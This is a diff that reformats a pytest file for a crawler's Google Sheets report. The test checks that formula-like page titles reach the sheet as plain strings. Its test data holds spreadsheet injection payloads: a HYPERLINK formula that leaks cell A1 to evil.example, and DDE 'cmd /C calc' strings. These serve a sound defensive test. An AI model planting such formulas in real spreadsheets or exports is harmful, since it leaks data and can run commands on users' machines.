@@ -17,8 +17,12 @@ from nitpicker_core import ScrapeResult
 sys.path.append(str(Path(__file__).resolve().parent.parent / "reports"))  # the Sheets stand-in lives there
 
 # The probe's strings (titles are stripped of surrounding whitespace, so tab and CR go in the description).
-INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
-              "+1+cmd|' /C calc'!A0", "-2+3"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+]
 WHITESPACE = ["\tX", "\rX", "\t=1+1"]
 NUMBER_TEXT = "-1.5"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -28,9 +32,15 @@ SHEET_URL = f"https://docs.google.com/spreadsheets/d/{BOOK}/edit"
 
 
 def page(n: int, title: str, description: str) -> ScrapeResult:
-    return ScrapeResult(url=f"{SITE}/p{n}", status=200, status_text="OK", content_type="text/html",
-                        content_length=1000, metadata={"title": title, "description": description, "lang": "en"},
-                        html=f"<!doctype html><html><head><title>p{n}</title></head><body>p{n}</body></html>")
+    return ScrapeResult(
+        url=f"{SITE}/p{n}",
+        status=200,
+        status_text="OK",
+        content_type="text/html",
+        content_length=1000,
+        metadata={"title": title, "description": description, "lang": "en"},
+        html=f"<!doctype html><html><head><title>p{n}</title></head><body>p{n}</body></html>",
+    )
 
 
 @pytest.fixture(scope="module")
@@ -92,25 +102,48 @@ def sheets_standin(tmp_path):
     from standin import Store, serve
 
     key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                                serialization.NoEncryption()).decode()
-    public = key.public_key().public_bytes(serialization.Encoding.PEM,
-                                           serialization.PublicFormat.SubjectPublicKeyInfo).decode()
+    private = key.private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    ).decode()
+    public = (
+        key.public_key()
+        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+        .decode()
+    )
     store = Store(public_key=public)
     store.add_book(BOOK)
     server, base = serve(store)
-    (tmp_path / "sa.json").write_text(json.dumps({
-        "type": "service_account", "project_id": "nitpicker-test", "private_key_id": "k1", "private_key": private,
-        "client_email": "reporter@nitpicker-test.iam.gserviceaccount.com", "client_id": "1",
-        "token_uri": f"{base}/token"}))
+    (tmp_path / "sa.json").write_text(
+        json.dumps(
+            {
+                "type": "service_account",
+                "project_id": "nitpicker-test",
+                "private_key_id": "k1",
+                "private_key": private,
+                "client_email": "reporter@nitpicker-test.iam.gserviceaccount.com",
+                "client_id": "1",
+                "token_uri": f"{base}/token",
+            }
+        )
+    )
     yield store, base
     server.shutdown()
 
 
 def test_google_sheets_receives_formula_like_text_as_string_values(hostile_archive, sheets_standin, tmp_path):
     store, base = sheets_standin
-    result = run_cli("report", str(hostile_archive), "--sheet", SHEET_URL, "--credentials", "sa.json",
-                     "--only", "Page List", cwd=tmp_path, env={"NITPICKER_GOOGLE_API_URL": base})
+    result = run_cli(
+        "report",
+        str(hostile_archive),
+        "--sheet",
+        SHEET_URL,
+        "--credentials",
+        "sa.json",
+        "--only",
+        "Page List",
+        cwd=tmp_path,
+        env={"NITPICKER_GOOGLE_API_URL": base},
+    )
     assert result.returncode == 0, result.stderr
     # typed cells through batchUpdate only: the values API (where USER_ENTERED parses "=…") is never called
     assert not [c for c in store.calls if "/values" in c], store.calls
@@ -129,6 +162,10 @@ def test_google_sheets_receives_formula_like_text_as_string_values(hostile_archi
     last = len(INJECTIONS) + len(WHITESPACE)
     assert value(last, "Title") == {"stringValue": NUMBER_TEXT}
     assert value(last, "Status Code") == {"numberValue": 200}  # numbers stay numbers
-    formulas = [c["userEnteredValue"]["formulaValue"] for r in rows for c in r
-                if "formulaValue" in c.get("userEnteredValue", {})]
+    formulas = [
+        c["userEnteredValue"]["formulaValue"]
+        for r in rows
+        for c in r
+        if "formulaValue" in c.get("userEnteredValue", {})
+    ]
     assert len(formulas) == last + 1 and all(f.startswith(f'=HYPERLINK("{SITE}/') for f in formulas)
